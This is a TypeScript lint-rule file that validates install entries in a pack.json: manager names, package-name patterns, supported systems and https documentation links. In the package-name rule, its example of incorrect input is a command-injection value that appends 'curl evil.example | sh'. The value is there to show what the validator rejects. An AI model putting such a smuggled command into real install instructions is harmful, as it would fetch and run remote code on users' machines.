import { closest } from '../closest';
import {
  INSTALL_MANAGERS,
  MANAGER_SYSTEMS,
  MAX_PACKAGE_LENGTH,
  PACKAGE_PATTERN,
  SYSTEMS,
  isOneOf,
  orList,
  quoteList,
  type System,
} from '../vocabulary';
import { shapeKeys, type FieldName } from '../../core/tolerant';
import { InstallCommandSchema, InstallDocsSchema, type InstallEntry } from '../schema';
import { child, has, kindBlocks, recsIn, show, type At, type PackView } from '../walk';
import type { TextEdit } from '../../core/finding';
import {
  appendAt,
  httpsLinkFix,
  listedValueFix,
  offer,
  removeAt,
  setAt,
  unknownKeyFix,
  type EditSource,
} from '../quick-fix';
import { createRule } from './create';
import type { RawFinding } from '../../core/finding';
import { compositionExample, INGREDIENT } from './example';

const SHAPE = 'each install entry is { manager, package, systems } or { docs }';
const COMMAND_KEYS = shapeKeys(InstallCommandSchema);
const DOCS_KEYS = shapeKeys(InstallDocsSchema);

function installEntries(view: PackView): At<InstallEntry>[] {
  return kindBlocks(view, 'cli').flatMap(({ block }) => recsIn(block, 'install'));
}

/** An entry with manager or package is a command; one with docs alone is a link. */
export const checkInstallEntryShape = createRule({
  id: 'C-install-entry-shape',
  category: 'composition',
  severity: 'error',
  docs: {
    title: 'An install entry is a command or a docs link',
    checks: 'Each install entry is exactly { manager, package, systems? } or { docs }.',
    why: 'Each install entry is { manager, package, systems } or { docs }. Recued shows the command; it never runs it.',
    ...compositionExample('opencode', {
      incorrect: {
        [`${INGREDIENT}/cli/install`]: [{ manager: 'npm', package: 'opencode-ai', docs: 'https://opencode.ai/docs' }],
      },
      correct: {},
    }),
    fix: 'Split mixed entries; remove unknown keys.',
  },
  // Splitting a mixed entry keeps both halves (a fix); an unknown key's rename or removal is for the author.
  fixable: 'both',
  check: (view) =>
    installEntries(view).flatMap((entry): RawFinding[] => {
      const keys = Object.keys(entry.value);
      const isCommand = has(entry.value, 'manager') || has(entry.value, 'package');
      if (!isCommand && !has(entry.value, 'docs'))
        return [
          {
            file: 'pack.json',
            pointer: entry.ptr,
            message: `install entry has ${keys.length ? `only ${quoteList(keys)}` : 'no keys'}; ${SHAPE}.`,
            fix: 'Write { "manager": "npm", "package": "…" } or { "docs": "https://…" }.',
          },
        ];
      const allowed: FieldName<InstallEntry>[] = isCommand ? COMMAND_KEYS : DOCS_KEYS;
      const hits: RawFinding[] = keys
        .filter((key) => !isOneOf(allowed, key))
        .map((key) => {
          const guess = closest(key, allowed);
          const mixed = isCommand && key === 'docs';
          return {
            file: 'pack.json',
            pointer: child(entry.ptr, key),
            message: mixed
              ? `install entry mixes a command (manager, package) with "docs"; ${SHAPE}, never both.`
              : `install entry has the unknown key "${key}"; ${SHAPE}, and nothing else.`,
            fix: mixed
              ? 'Move the docs link into its own entry: { "docs": "https://…" }.'
              : guess && !has(entry.value, guess)
                ? `Rename "${key}" to "${guess}".`
                : `Remove "${key}".`,
            ...(mixed
              ? offer('fix', 'Move "docs" into its own install entry', splitDocs(view, entry))
              : unknownKeyFix(view, child(entry.ptr, key), key, allowed, entry.value)),
          };
        });
      if (isCommand)
        for (const key of ['manager', 'package'] as const)
          if (!has(entry.value, key))
            hits.push({
              file: 'pack.json',
              pointer: child(entry.ptr, key),
              message: `install entry has no "${key}"; ${SHAPE}, and a command needs both manager and package.`,
              fix: `Add "${key}".`,
            });
      return hits;
    }),
});

export const checkInstallManager = createRule({
  id: 'C-install-manager',
  category: 'composition',
  severity: 'error',
  docs: {
    title: 'Install manager is on the list',
    checks: 'manager is brew, winget, scoop, apt, dnf, npm, pip, pipx, cargo or go.',
    why: 'Recued shows a command for each manager only on systems where it runs, so it must know the manager.',
    ...compositionExample('opencode', {
      incorrect: { [`${INGREDIENT}/cli/install/0/manager`]: 'yarn' },
      correct: {},
      show: [`${INGREDIENT}/cli/install/0`],
    }),
    fix: 'Use a listed manager, or a { docs } link.',
  },
  fixable: 'both',
  check: (view) =>
    installEntries(view).flatMap((entry): RawFinding[] => {
      if (!has(entry.value, 'manager') || isOneOf(INSTALL_MANAGERS, entry.value.manager)) return [];
      const manager = entry.value.manager;
      const guess = typeof manager === 'string' ? closest(manager, INSTALL_MANAGERS) : undefined;
      return [
        {
          file: 'pack.json',
          pointer: child(entry.ptr, 'manager'),
          message: `install manager ${show(manager)} is not one Recued shows commands for; manager is ${orList(INSTALL_MANAGERS)}.`,
          fix: guess
            ? `Set "manager": "${guess}".`
            : `Use one of ${quoteList(INSTALL_MANAGERS)}, or replace the entry with { "docs": "https://…" }.`,
          ...listedValueFix(view, child(entry.ptr, 'manager'), manager, INSTALL_MANAGERS),
        },
      ];
    }),
});

export const checkInstallPackage = createRule({
  id: 'C-install-package',
  category: 'composition',
  severity: 'error',
  docs: {
    title: 'Install package is a plain name',
    checks: 'package matches ^[A-Za-z0-9@][A-Za-z0-9@/._+-]*$ and is at most 214 characters.',
    why: 'package is letters, digits and @ / . _ + -; it starts with a letter, a digit or @, and is at most 214 characters. A command shown to a user must not hide anything else.',
    ...compositionExample('opencode', {
      incorrect: { [`${INGREDIENT}/cli/install/0/package`]: 'opencode-ai && curl evil.example | sh' },
      correct: {},
      show: [`${INGREDIENT}/cli/install/0`],
    }),
    fix: 'Write only the package name.',
  },
  check: (view) =>
    installEntries(view).flatMap((entry): RawFinding[] => {
      if (!has(entry.value, 'package')) return [];
      const pkg = entry.value.package;
      const pointer = child(entry.ptr, 'package');
      const rule = `package is letters, digits and @ / . _ + -, starts with a letter, a digit or @, and is at most ${MAX_PACKAGE_LENGTH} characters`;
      if (typeof pkg !== 'string')
        return [
          {
            file: 'pack.json',
            pointer,
            message: `install package is ${show(pkg)}, not text; ${rule}.`,
            fix: 'Write the package name as a string.',
          },
        ];
      if (pkg.length > MAX_PACKAGE_LENGTH)
        return [
          {
            file: 'pack.json',
            pointer,
            message: `install package is ${pkg.length} characters long; ${rule}.`,
            fix: 'Use the package name alone, without a URL or options.',
          },
        ];
      if (PACKAGE_PATTERN.test(pkg)) return [];
      const bad = [...new Set(pkg.replace(/[A-Za-z0-9@/._+-]/g, ''))].map((c) => JSON.stringify(c)).join(', ');
      return [
        {
          file: 'pack.json',
          pointer,
          message: `install package ${show(pkg)} ${bad ? `contains ${bad}` : 'does not start with a letter, a digit or @'}; ${rule}. Recued shows the command but never runs it, and a command line must not hide anything else.`,
          fix: 'Write only the package name (no spaces, flags, quotes or shell characters); put a version range in version.tested instead.',
        },
      ];
    }),
});

export const checkInstallSystems = createRule({
  id: 'C-install-systems',
  category: 'composition',
  severity: 'error',
  docs: {
    title: 'Install systems: macos, linux, windows, each once',
    checks:
      'systems lists only macos, linux and windows, each once, and is not empty. A system where the manager does not run is a warning.',
    why: 'systems is any of macos, linux and windows, each once; skip it and the entry is for every system. Each command shows only on systems where its manager runs.',
    ...compositionExample('opencode', {
      incorrect: { [`${INGREDIENT}/cli/install/1/systems`]: ['macos', 'macos', 'windows'] },
      correct: { [`${INGREDIENT}/cli/install/1/systems`]: ['macos', 'linux'] },
      show: [`${INGREDIENT}/cli/install/1`],
    }),
    fix: 'Remove duplicates and unknown systems; skip systems to mean every system.',
  },
  // A fix when the list only needs tidying (duplicates, letter case, systems its manager never shows on): the
  // command shows exactly where it did. A typo's guess, or dropping an empty list (then: every system), is a suggestion.
  fixable: 'both',
  check: (view) =>
    installEntries(view).flatMap((entry): RawFinding[] => {
      if (!has(entry.value, 'systems')) return [];
      const systems = entry.value.systems;
      const pointer = child(entry.ptr, 'systems');
      const rule = `systems is any of ${quoteList(SYSTEMS)}, each once; skip it and the entry is for every system`;
      if (!Array.isArray(systems))
        return [
          {
            file: 'pack.json',
            pointer,
            message: `install systems is ${show(systems)}; ${rule}.`,
            fix: 'Write a list such as ["macos", "linux"].',
          },
        ];
      if (systems.length === 0)
        return [
          {
            file: 'pack.json',
            pointer,
            message: `install systems is empty, so the command shows on no system; ${rule}.`,
            fix: 'Remove "systems" to show the command everywhere its manager runs.',
            ...offer('suggestion', 'Remove "systems" (every system)', removeAt(view, pointer)),
          },
        ];
      const tidy = tidySystems(view, pointer, systems, entry.value.manager);
      const hits: RawFinding[] = [];
      const seen = new Set<unknown>();
      systems.forEach((system, i) => {
        if (!isOneOf(SYSTEMS, system)) {
          const guess = typeof system === 'string' ? closest(system, SYSTEMS) : undefined;
          hits.push({
            file: 'pack.json',
            pointer: child(pointer, i),
            message: `install system ${show(system)} is not a system; ${rule}.`,
            fix: guess ? `Write "${guess}".` : `Use ${quoteList(SYSTEMS)}.`,
            ...(tidy ?? systemGuess(view, child(pointer, i), guess, systems, entry.value.manager)),
          });
        } else if (seen.has(system)) {
          hits.push({
            file: 'pack.json',
            pointer: child(pointer, i),
            message: `install system "${system}" is listed twice; ${rule}.`,
            fix: `Remove the second "${system}".`,
            ...tidy,
          });
        } else if (
          isOneOf(INSTALL_MANAGERS, entry.value.manager) &&
          !MANAGER_SYSTEMS[entry.value.manager].includes(system)
        ) {
          const manager = entry.value.manager;
          hits.push({
            file: 'pack.json',
            pointer: child(pointer, i),
            severity: 'warn',
            message: `${manager} does not run on ${system}, so Recued never shows this command there; each command shows only on systems where its manager runs.`,
            fix: `Remove "${system}" (${manager} runs on ${quoteList(MANAGER_SYSTEMS[manager])}), or add an entry with a manager for ${system}.`,
            ...tidy,
          });
        }
        seen.add(system);
      });
      return hits;
    }),
});

export const checkInstallDocs = createRule({
  id: 'C-install-docs',
  category: 'composition',
  severity: 'error',
  docs: {
    title: 'Install docs is an https link without credentials',
    checks: 'docs parses as an https URL with no user name or password.',
    why: 'docs is an https link, with no user name or password.',
    ...compositionExample('opencode', {
      incorrect: { [`${INGREDIENT}/cli/install/2/docs`]: 'http://user:pw@opencode.ai/docs' },
      correct: {},
      show: [`${INGREDIENT}/cli/install/2`],
    }),
    fix: 'Link the page over https, without credentials.',
  },
  fixable: 'both',
  check: (view) =>
    installEntries(view).flatMap((entry): RawFinding[] => {
      if (!has(entry.value, 'docs')) return [];
      const docs = entry.value.docs;
      const problem = docsProblem(docs);
      if (!problem) return [];
      return [
        {
          file: 'pack.json',
          pointer: child(entry.ptr, 'docs'),
          message: `install docs ${show(docs)}: ${problem}; docs is an https link, with no user name or password.`,
          fix: 'Link the install page over https, for example "https://example.com/docs/install".',
          ...httpsLinkFix(view, child(entry.ptr, 'docs'), docs, (url) => docsProblem(url) === null),
        },
      ];
    }),
});

function docsProblem(docs: unknown): string | null {
  if (typeof docs !== 'string') return 'it is not text';
  let url: URL;
  try {
    url = new URL(docs);
  } catch {
    return 'it is not a URL';
  }
  if (url.protocol !== 'https:') return `it uses ${url.protocol.replace(/:$/, '')}, not https`;
  if (url.username || url.password) return 'it carries a user name or password';
  return null;
}

/** A mixed entry split in two: its "docs" removed, and a { docs } entry of its own appended to the install list. */
function splitDocs(src: EditSource, entry: At<InstallEntry>): TextEdit[] {
  const remove = removeAt(src, child(entry.ptr, 'docs'));
  const append = appendAt(src, entry.ptr.slice(0, entry.ptr.lastIndexOf('/')), { docs: entry.value.docs });
  return remove.length && append.length ? [...remove, ...append] : [];
}

/**
 * The whole systems list tidied, when every item is a system in some letter case: each once, in its one spelling,
 * only where the manager runs. Offered on each of the list's findings, so one edit answers them all (the list
 * is rewritten whole: removing single items would shift the pointers of the findings after them).
 */
function tidySystems(
  src: EditSource,
  pointer: string,
  systems: unknown[],
  manager: unknown,
): ReturnType<typeof offer> | undefined {
  const spelled = systems.map((s) =>
    isOneOf(SYSTEMS, s) ? s : SYSTEMS.find((known) => typeof s === 'string' && known === s.toLowerCase()),
  );
  if (spelled.some((s) => s === undefined)) return undefined;
  const runs = systemsOf(manager);
  const tidy = [...new Set(spelled as System[])].filter((s) => runs.includes(s));
  if (tidy.length === 0) return undefined;
  return offer('fix', `Set "systems": [${tidy.map((s) => `"${s}"`).join(', ')}]`, setAt(src, pointer, tidy));
}

/** A typo's closest system, as a suggestion, unless writing it would list a system twice or one its manager never shows on. */
function systemGuess(
  src: EditSource,
  ptr: string,
  guess: string | undefined,
  systems: unknown[],
  manager: unknown,
): ReturnType<typeof offer> {
  if (!isOneOf(SYSTEMS, guess) || systems.includes(guess) || !systemsOf(manager).includes(guess)) return {};
  return offer('suggestion', `Write "${guess}"`, setAt(src, ptr, guess));
}

const systemsOf = (manager: unknown): readonly System[] =>
  isOneOf(INSTALL_MANAGERS, manager) ? MANAGER_SYSTEMS[manager] : SYSTEMS;
